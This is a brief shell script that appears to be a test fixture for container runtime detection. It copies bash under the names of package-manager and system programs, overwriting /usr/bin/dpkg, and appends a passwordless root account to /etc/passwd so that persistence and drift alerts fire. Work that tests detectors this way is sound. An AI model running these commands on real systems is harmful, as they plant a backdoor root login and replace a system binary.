# in: container
# fires: persistence-accounts execution-drift persistence-system-program
# By the names and paths of programs that write there.
for path in /tmp/dnf /tmp/passwd /usr/bin/dpkg; do
  cp /usr/bin/bash $path
  $path -c 'echo other::0:0::/:/bin/sh >> /etc/passwd; true'
done
